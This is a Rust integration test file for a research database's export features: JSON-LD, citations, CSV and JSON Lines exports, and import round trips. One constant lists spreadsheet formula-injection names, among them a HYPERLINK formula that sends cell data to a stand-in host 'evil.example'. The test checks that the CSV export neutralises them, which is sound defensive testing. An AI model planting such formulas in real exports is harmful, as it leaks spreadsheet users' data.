//! Exports researchers can cite: JSON-LD that a JSON-LD processor accepts, citations,
//! streamed CSV and JSON Lines exports, imports with their line-numbered errors, and the
//! round trip export → import → export.

use axum::{
    body::Body,
    http::{Request, StatusCode, header},
};
use http_body_util::BodyExt;
use serde_json::{Value, json};

use agora::export::stream::Format;

use crate::{common::*, db_test};

/// Imports the file at `path` into `app`'s database, as `agora import` does.
async fn import(
    app: &TestApp,
    path: &std::path::Path,
    format: Format,
) -> agora::export::import::Outcome {
    let quiet = &mut agora::progress::Quiet;
    agora::export::import::import(app.db(), path, format, false, quiet)
        .await
        .unwrap()
}

/// GETs a path; returns the status, the content type and the body.
async fn get(app: &TestApp, path: &str) -> (StatusCode, String, String) {
    let response = tower::ServiceExt::oneshot(
        app.router.clone(),
        Request::get(path).body(Body::empty()).unwrap(),
    )
    .await
    .unwrap();
    let status = response.status();
    let media = response
        .headers()
        .get(header::CONTENT_TYPE)
        .map(|v| v.to_str().unwrap().to_string())
        .unwrap_or_default();
    let body = response.into_body().collect().await.unwrap().to_bytes();
    (status, media, String::from_utf8(body.to_vec()).unwrap())
}

/// Expands a document with a real JSON-LD processor (no network: the context is inline);
/// returns the expanded form as JSON.
pub(crate) async fn expand(doc: &str) -> Value {
    use json_ld::{
        JsonLdProcessor, RemoteDocument,
        syntax::{IntoJsonWithContext, Parse, Print},
    };
    let parsed = json_ld::syntax::Value::parse_str(doc).expect("JSON").0;
    let input = RemoteDocument::<iref::IriBuf>::new(
        None,
        Some("application/ld+json".parse().unwrap()),
        parsed,
    );
    let loader = json_ld::NoLoader;
    let expanded = input
        .expand(&loader)
        .await
        .expect("a JSON-LD processor accepts the document");
    let mut out = Vec::new();
    for object in expanded {
        let json = object.into_json_with(&());
        out.push(serde_json::from_str::<Value>(&json.compact_print().to_string()).unwrap());
    }
    Value::Array(out)
}

pub(crate) const SCHEMA: &str = "https://schema.org/";

db_test!(every_node_has_json_ld_a_processor_accepts, seeded, |app| {
    let d = app
        .data(
            r#"{ dialogueBySlug(slug: "idm-2018") { id jsonLd workshops { nodes { id } } }
                 reportBySymbol(symbol: "A/72/643") { id }
                 organisationBySlug(slug: "iom") { id }
                 people(first: 1) { nodes { id } }
                 themeByCode(code: "GCM-5") { id } }"#,
            json!({}),
        )
        .await;
    let dialogue = &d["dialogueBySlug"];
    let ids = [
        ("Event", dialogue["id"].clone()),
        ("Event", dialogue["workshops"]["nodes"][0]["id"].clone()),
        ("Report", d["reportBySymbol"]["id"].clone()),
        ("Organization", d["organisationBySlug"]["id"].clone()),
        ("Person", d["people"]["nodes"][0]["id"].clone()),
        ("DefinedTerm", d["themeByCode"]["id"].clone()),
    ];
    for (ty, id) in ids {
        let (status, media, body) =
            get(&app, &format!("/export/{}.jsonld", id.as_str().unwrap())).await;
        assert_eq!(status, StatusCode::OK, "{body}");
        assert_eq!(media, "application/ld+json");
        let expanded = expand(&body).await;
        let node = &expanded[0];
        assert_eq!(node["@type"], json!([format!("{SCHEMA}{ty}")]), "{node:#}");
        assert!(
            node["@id"]
                .as_str()
                .unwrap()
                .ends_with(&format!("/export/{}.jsonld", id.as_str().unwrap()))
        );
    }
    // The dialogue: names in two languages, its workshops as sub-events, the workshops'
    // super-event the dialogue.
    let doc: Value = dialogue["jsonLd"].clone();
    let expanded = expand(&doc.to_string()).await;
    let node = &expanded[0];
    let names = node[format!("{SCHEMA}name")].as_array().unwrap();
    assert!(names.contains(
        &json!({ "@value": "Dialogue international sur la migration 2018", "@language": "fr" })
    ));
    assert_eq!(
        node[format!("{SCHEMA}subEvent")].as_array().unwrap().len(),
        2
    );
    let workshop = dialogue["workshops"]["nodes"][0]["id"].as_str().unwrap();
    let (_, _, body) = get(&app, &format!("/export/{workshop}.jsonld")).await;
    let w: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(w["superEvent"]["@id"], doc["@id"]);
    // The field and the endpoint give the same document.
    let (_, _, body) = get(
        &app,
        &format!("/export/{}.jsonld", dialogue["id"].as_str().unwrap()),
    )
    .await;
    assert_eq!(serde_json::from_str::<Value>(&body).unwrap(), doc);
    // Unknown ids and formats are clear errors.
    let (status, _, body) = get(&app, "/export/nope.jsonld").await;
    assert_eq!(
        (status, error_code(&serde_json::from_str(&body).unwrap())),
        (StatusCode::NOT_FOUND, "NOT_FOUND".into())
    );
    let (status, _, _) = get(
        &app,
        &format!("/export/{}.bib", dialogue["id"].as_str().unwrap()),
    )
    .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
});

db_test!(reports_can_be_cited, seeded, |app| {
    let d = app
        .data(
            r#"{ reportBySymbol(symbol: "A/72/643") { id citation { csl bibtex } fr: citation(lang: "fr") { csl } } }"#,
            json!({}),
        )
        .await;
    let r = &d["reportBySymbol"];
    let csl = &r["citation"]["csl"];
    assert_eq!(csl["type"], "report");
    assert_eq!(csl["title"], "Making Migration Work for All");
    assert_eq!(csl["number"], "A/72/643");
    assert_eq!(
        csl["author"],
        json!([{ "family": "Guterres", "given": "António" }])
    );
    // The language of the version cited (its title's), not of the seed text (French).
    assert_eq!(csl["language"], "en");
    assert_eq!(r["fr"]["csl"]["language"], "fr");
    assert!(csl["issued"]["date-parts"][0][0].is_i64(), "{csl}");
    assert_eq!(
        r["fr"]["csl"]["title"],
        "Rendre les migrations bénéfiques pour tous"
    );
    let bib = r["citation"]["bibtex"].as_str().unwrap();
    assert!(bib.starts_with("@techreport{A-72-643,\n"), "{bib}");
    assert!(
        bib.contains("  title = {{Making Migration Work for All}}"),
        "{bib}"
    );
    assert!(bib.contains("  author = {Guterres, António}"), "{bib}");
    assert!(bib.contains("  language = {en}"), "{bib}");
    assert!(bib.contains("  number = {A/72/643}"), "{bib}");
    let (status, media, body) =
        get(&app, &format!("/export/{}.bib", r["id"].as_str().unwrap())).await;
    assert_eq!(
        (status, media.as_str()),
        (StatusCode::OK, "application/x-bibtex; charset=utf-8")
    );
    assert_eq!(body, bib);
    let (_, _, body) = get(
        &app,
        &format!("/export/{}.csl.json", r["id"].as_str().unwrap()),
    )
    .await;
    // A CSL-JSON file is an array of items, as Pandoc and citeproc read it.
    assert_eq!(
        serde_json::from_str::<Value>(&body).unwrap(),
        json!([csl.clone()])
    );
});

db_test!(
    lists_export_as_csv_and_json_lines_under_their_filter,
    seeded,
    |app| {
        let (status, media, body) = get(&app, "/export/dialogues.csv?lang=fr").await;
        assert_eq!(
            (status, media.as_str()),
            (StatusCode::OK, "text/csv; charset=utf-8")
        );
        let mut reader = csv::Reader::from_reader(body.as_bytes());
        let header: Vec<String> = reader
            .headers()
            .unwrap()
            .iter()
            .map(str::to_string)
            .collect();
        assert_eq!(&header[..3], ["type", "id", "label"]);
        assert!(
            header.contains(&"slug".to_string())
                && header.ends_with(&["texts".to_string(), "edges".to_string()])
        );
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), 4);
        let slug = header.iter().position(|h| h == "slug").unwrap();
        let idm = rows.iter().find(|r| &r[slug] == "idm-2018").unwrap();
        assert_eq!(&idm[2], "Dialogue international sur la migration 2018");
        // The filter is the GraphQL one.
        let filter = url_escape(r#"{"year":{"eq":2018}}"#);
        let (_, media, body) = get(&app, &format!("/export/dialogues.jsonl?filter={filter}")).await;
        assert_eq!(media, "application/jsonl");
        let lines: Vec<Value> = body
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        assert_eq!(lines.len(), 1);
        assert_eq!(lines[0]["fields"]["slug"], "idm-2018");
        assert!(
            lines[0]["edges"]
                .as_array()
                .unwrap()
                .iter()
                .any(|e| e["kind"] == "dialogue_participant")
        );
        // Contact data only with a key: there with one (the positive control), not without.
        let key = app.key("iom", "read").await;
        let keyed = tower::ServiceExt::oneshot(
            app.router.clone(),
            Request::get("/export/people.jsonl")
                .header(header::AUTHORIZATION, format!("Bearer {key}"))
                .body(Body::empty())
                .unwrap(),
        )
        .await
        .unwrap();
        let keyed = keyed.into_body().collect().await.unwrap().to_bytes();
        assert!(String::from_utf8_lossy(&keyed).contains("\"email\""));
        let (_, _, body) = get(&app, "/export/people.jsonl").await;
        assert!(!body.contains("\"email\""));
        // Bad requests are clear.
        let (status, _, body) =
            get(&app, "/export/dialogues.jsonl?filter=%7B%22nope%22%3A1%7D").await;
        assert_eq!(
            (status, error_code(&serde_json::from_str(&body).unwrap())),
            (StatusCode::BAD_REQUEST, "BAD_USER_INPUT".into())
        );
        let (status, _, _) = get(&app, "/export/unicorns.csv").await;
        assert_eq!(status, StatusCode::NOT_FOUND);
    }
);

fn url_escape(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

/// The whole database, exported.
async fn export_all(app: &TestApp) -> String {
    let (status, _, body) = get(app, "/export/all.jsonl").await;
    assert_eq!(status, StatusCode::OK);
    body
}

db_test!(
    export_then_import_gives_back_the_same_graph,
    seeded,
    |app| {
        // Beside the seed: a partner's record with an external id, an affiliation with a
        // position, a tag.
        let key = app.key("iom", "admin").await;
        let theme = app
            .data(r#"{ themeByCode(code: "GCM-7") { id } }"#, json!({}))
            .await["themeByCode"]["id"]
            .clone();
        app.data_as(
        &key,
        r#"mutation($theme: ID!) { sync(records: [
            { person: { externalId: "P-1", input: { name: "Ana Round", email: "ana@example.org" } } },
            { addEdge: { kind: THEME_TAG, from: { externalId: "P-1", type: PERSON }, to: { id: $theme } } }
        ]) { applied } }"#,
        json!({ "theme": theme }),
    )
    .await;
        let person = app
            .data(
                r#"{ people(filter: {externalId: {eq: "P-1"}}) { nodes { id } } }"#,
                json!({}),
            )
            .await["people"]["nodes"][0]["id"]
            .clone();
        let iom = app
            .data(r#"{ organisationBySlug(slug: "iom") { id } }"#, json!({}))
            .await["organisationBySlug"]["id"]
            .clone();
        app.data_as(
        &key,
        r#"mutation($p: ID!, $o: ID!) { addEdge(input: {kind: AFFILIATION, from: {id: $p}, to: {id: $o}, startDate: "2020-01-01", position: [{lang: "en", text: "Analyst"}]}) { outcome } }"#,
        json!({ "p": person, "o": iom }),
    )
    .await;
        let exported = export_all(&app).await;
        let file = tempfile::NamedTempFile::with_suffix(".jsonl").unwrap();
        std::fs::write(file.path(), &exported).unwrap();

        let copy = TestApp::start(app.backend(), false).await.unwrap();
        let outcome = import(&copy, file.path(), Format::Jsonl).await;
        assert!(outcome.problems.is_empty(), "{:?}", outcome.problems);
        assert_eq!(outcome.written, exported.lines().count() as u64);
        // Exported again, the copy is the same, line for line.
        assert_eq!(export_all(&copy).await, exported);
        // And it answers queries alike, texts, sources and edges included.
        let q = r#"{ dialogueBySlug(slug: "idm-2018") { title(lang: "fr") { text } workshops { totalCount } participants { edges { role node { slug } } } }
                themeByCode(code: "GCM-1") { title(lang: "es") { text source } broader { code } } }"#;
        assert_eq!(copy.data(q, json!({})).await, app.data(q, json!({})).await);
        // New records get new ids after the imported ones.
        let created = copy
            .data_as(
                &copy.key("iom", "write").await,
                r#"mutation { createPerson(input: {name: "After"}) { outcome } }"#,
                json!({}),
            )
            .await;
        assert_eq!(created["createPerson"]["outcome"], "CREATED");
        // The import is in the change feed, for partners to see.
        let feed = copy
            .data_as(
                &copy.key("iom", "read").await,
                "{ changes(first: 1) { totalCount } }",
                json!({}),
            )
            .await;
        assert!(feed["changes"]["totalCount"].as_i64().unwrap() >= outcome.written as i64);
    }
);

db_test!(a_csv_export_imports_back, seeded, |app| {
    // Themes cite sources, which organisations publish, and organisations are tagged with
    // themes: a file of one type refers to records of others. The copy first holds every
    // other record (without its theme tags, whose themes the CSV file brings).
    let (_, _, all) = get(&app, "/export/all.jsonl").await;
    let others: String = all
        .lines()
        .filter_map(|l| {
            let mut record: Value = serde_json::from_str(l).unwrap();
            if record["type"] == "Theme" {
                return None;
            }
            if let Some(edges) = record["edges"].as_array_mut() {
                edges.retain(|e| e["kind"] != "theme_tag");
            }
            Some(format!("{record}\n"))
        })
        .collect();
    let cited = tempfile::NamedTempFile::with_suffix(".jsonl").unwrap();
    std::fs::write(cited.path(), others).unwrap();
    let (_, _, csv) = get(&app, "/export/themes.csv").await;
    let file = tempfile::NamedTempFile::with_suffix(".csv").unwrap();
    std::fs::write(file.path(), &csv).unwrap();
    let copy = TestApp::start(app.backend(), false).await.unwrap();
    let outcome = import(&copy, cited.path(), Format::Jsonl).await;
    assert!(outcome.problems.is_empty(), "{:?}", outcome.problems);
    let outcome = import(&copy, file.path(), Format::Csv).await;
    assert!(outcome.problems.is_empty(), "{:?}", outcome.problems);
    let (_, _, again) = get(&copy, "/export/themes.csv").await;
    assert_eq!(again, csv);
    // A bad cell names its line.
    let broken = csv.replacen(",gcm_objective,", ",no_such_scheme,", 1);
    let line = broken
        .lines()
        .position(|l| l.contains("no_such_scheme"))
        .unwrap() as u64
        + 1;
    std::fs::write(file.path(), &broken).unwrap();
    let empty = TestApp::start(app.backend(), false).await.unwrap();
    import(&empty, cited.path(), Format::Jsonl).await;
    let outcome = import(&empty, file.path(), Format::Csv).await;
    assert_eq!(outcome.written, 0);
    assert!(
        outcome
            .problems
            .iter()
            .any(|p| p.line == line && p.reason.starts_with("scheme: must be one of")),
        "{:?}",
        outcome.problems
    );
});

/// Names that a spreadsheet would run as formulas, one that starts with the quote that
/// neutralises them, and one plain. (Names are trimmed, so none starts with a tab or a
/// carriage return: `format.rs`'s unit test covers those.)
const FORMULAS: [&str; 7] = [
    r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#,
    "+1 555 0100",
    "-2+3",
    "@SUM(A1:A9)",
    "=1+1",
    "'quoted",
    "Plain Name",
];

db_test!(
    csv_cells_that_would_be_formulas_are_neutralised,
    seeded,
    |app| {
        let key = app.key("iom", "write").await;
        for name in FORMULAS {
            let created = app
                .data_as(
                    &key,
                    "mutation($n: String!) { createPerson(input: {name: $n}) { outcome } }",
                    json!({ "n": name }),
                )
                .await;
            assert_eq!(created["createPerson"]["outcome"], "CREATED", "{name:?}");
        }
        // The anonymous CSV: every name that starts like a formula (or with a quote) starts
        // with a quote, the others are as written.
        let (_, _, csv) = get(&app, "/export/people.csv").await;
        let (at, rows) = csv_column(&csv, "name");
        let cells: Vec<String> = rows.iter().map(|r| r[at].to_string()).collect();
        for name in FORMULAS {
            let expected = if name == "Plain Name" {
                name.to_string()
            } else {
                format!("'{name}")
            };
            assert!(cells.contains(&expected), "{expected:?} in {cells:?}");
        }
        assert!(
            cells
                .iter()
                .all(|c| !c.starts_with(['=', '+', '-', '@', '\t', '\r'])),
            "{cells:?}"
        );
        // JSON Lines keeps the values as they are.
        let (_, _, jsonl) = get(&app, "/export/people.jsonl").await;
        let names: Vec<String> = jsonl
            .lines()
            .map(|l| serde_json::from_str::<Value>(l).unwrap()["fields"]["name"].to_string())
            .collect();
        for name in FORMULAS {
            assert!(names.contains(&json!(name).to_string()), "{name:?}");
        }
        // And the CSV rows of the new people import back to the names as written.
        let mut mine = csv::Writer::from_writer(Vec::new());
        mine.write_record(csv::Reader::from_reader(csv.as_bytes()).headers().unwrap())
            .unwrap();
        for row in rows.iter().filter(|r| {
            FORMULAS
                .iter()
                .any(|n| &r[at] == *n || r[at] == format!("'{n}"))
        }) {
            mine.write_record(row).unwrap();
        }
        let file = tempfile::NamedTempFile::with_suffix(".csv").unwrap();
        std::fs::write(file.path(), mine.into_inner().unwrap()).unwrap();
        // Into a copy with the seed, whose organisations their partner is one of.
        let copy = TestApp::start(app.backend(), true).await.unwrap();
        let outcome = import(&copy, file.path(), Format::Csv).await;
        assert!(outcome.problems.is_empty(), "{:?}", outcome.problems);
        assert_eq!(outcome.written, FORMULAS.len() as u64);
        let (_, _, again) = get(&copy, "/export/people.jsonl").await;
        let again: Vec<String> = again
            .lines()
            .map(|l| serde_json::from_str::<Value>(l).unwrap()["fields"]["name"].to_string())
            .collect();
        let written: Vec<String> = FORMULAS.iter().map(|n| json!(n).to_string()).collect();
        assert!(again.ends_with(&written), "{again:?}");
    }
);

db_test!(an_export_lists_what_a_search_finds, seeded, |app| {
    let count = |q: &'static str, types: Value, filter: Value| {
        let app = &app;
        async move {
            app.data(
                "query($q: String!, $t: [NodeType!], $f: SearchFilter) { search(query: $q, types: $t, filter: $f) { totalCount } }",
                json!({ "q": q, "t": types, "f": filter }),
            )
            .await["search"]["totalCount"]
                .as_u64()
                .unwrap() as usize
        }
    };
    // The dialogues a search finds, as JSON Lines: the search's count, not the list's.
    let found = count("2017", json!(["DIALOGUE"]), Value::Null).await;
    let (status, _, body) = get(&app, "/export/dialogues.jsonl?q=2017").await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let (_, _, whole) = get(&app, "/export/dialogues.jsonl").await;
    assert!(
        (1..whole.lines().count()).contains(&found),
        "the search finds some dialogues, not all: {found}"
    );
    assert_eq!(body.lines().count(), found, "{body}");

    // With a filter of the list, as CSV: both apply.
    let filter = json!({ "year": { "eq": 2017 } });
    let found = count("migration", json!(["DIALOGUE"]), filter.clone()).await;
    let path = format!(
        "/export/dialogues.csv?q=migration&filter={}",
        url_escape(&filter.to_string())
    );
    let (status, _, body) = get(&app, &path).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let (_, rows) = csv_column(&body, "id");
    assert_eq!(rows.len(), found, "{body}");
    assert!(found >= 1);

    // In one language's texts only.
    let (status, _, body) = get(&app, "/export/reports.jsonl?q=migrations&qlang=fr").await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body.lines().count(), 1, "{body}");
    let (status, _, body) = get(&app, "/export/reports.jsonl?q=migration&qlang=x!").await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");

    // `all` is every list whole: a filter or search words are refused, not applied to
    // the wrong lists.
    for query in ["filter=%7B%7D", "q=migration"] {
        let (status, _, body) = get(&app, &format!("/export/all.jsonl?{query}")).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{query}: {body}");
        assert!(body.contains("BAD_USER_INPUT"), "{body}");
    }
});
